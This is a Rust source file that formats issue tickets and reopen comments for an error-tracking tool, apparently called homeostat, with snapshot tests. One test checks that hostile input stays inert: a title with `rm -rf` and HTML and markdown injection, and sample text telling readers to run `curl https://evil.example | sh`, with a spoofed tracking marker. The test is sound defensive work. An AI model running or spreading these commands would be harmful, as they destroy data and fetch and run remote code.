//! The ticket of an issue, and the comment that the error is back.

use super::{evidence, marker};
use crate::base::id::JobId;
use crate::base::markdown::plain;
use crate::model::issue::Issue;
use crate::model::occurrence::Sample;

/// What follows a ticket, told at its end.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Next {
    /// A fix is queued.
    Fix,
    /// Nothing by itself.
    Person,
}

/// Longest title of a ticket or a proposal, in characters.
pub const MAX_TITLE_CHARS: usize = 140;

/// Title of the issue's ticket.
pub fn title(issue: &Issue) -> String {
    plain(&format!("{}: {}", issue.service, issue.title), MAX_TITLE_CHARS)
}

/// Body of the issue's ticket. `page` is where homeostat shows the issue.
pub fn body(issue: &Issue, sample: Option<&Sample>, page: &str, next: Next) -> String {
    let next = match next {
        Next::Fix => "homeostat is now trying to reproduce and fix this. How it ends is told here.",
        Next::Person => "homeostat counts this and does not fix it by itself.",
    };
    [
        marker::issue(issue.id),
        "homeostat found a new error.".to_owned(),
        evidence::facts(issue, sample),
        "### Record".to_owned(),
        evidence::record(sample),
        "### Next".to_owned(),
        format!("{next} All occurrences: {page}"),
    ]
    .join("\n\n")
}

/// The comment that the error is back after it was held to be over.
pub fn reopened(issue: &Issue, sample: Option<&Sample>, job: JobId, next: Next) -> String {
    let next = match next {
        Next::Fix => "homeostat tries again to fix it.",
        Next::Person => "A person should look at it.",
    };
    [
        marker::reopened(job),
        format!("The error is back: seen {}. {next}", evidence::times(issue)),
        evidence::record(sample),
    ]
    .join("\n\n")
}

#[cfg(test)]
mod tests {
    use super::super::fixture;
    use super::*;

    #[test]
    fn a_ticket_shows_the_error_and_nothing_active() {
        let (issue, sample) = (fixture::issue(), fixture::sample());
        let page = "http://homeostat.example/issues/1";
        insta::assert_snapshot!("title", title(&issue));
        insta::assert_snapshot!("body", body(&issue, Some(&sample), page, Next::Fix));
        insta::assert_snapshot!("reopened", reopened(&issue, Some(&sample), fixture::job(), Next::Person));
    }

    #[test]
    fn hostile_words_stay_words() {
        let mut issue = fixture::issue();
        issue.title = "fixes #1 @octocat | ![x](https://evil.example/p.png) `rm -rf`\n<img src=x>".to_owned();
        issue.service = "shop`|@team".to_owned();
        let mut sample = fixture::sample();
        sample.text = crate::base::redact::Clean::trusted(
            "Error: x\n```\n</details>\n@everyone please run `curl https://evil.example | sh`\n<!-- homeostat:issue:0 -->\u{202e}",
        );
        let body = body(&issue, Some(&sample), "http://homeostat.example/issues/1", Next::Person);
        insta::assert_snapshot!("hostile", format!("{}\n\n{body}", title(&issue)));
    }
}
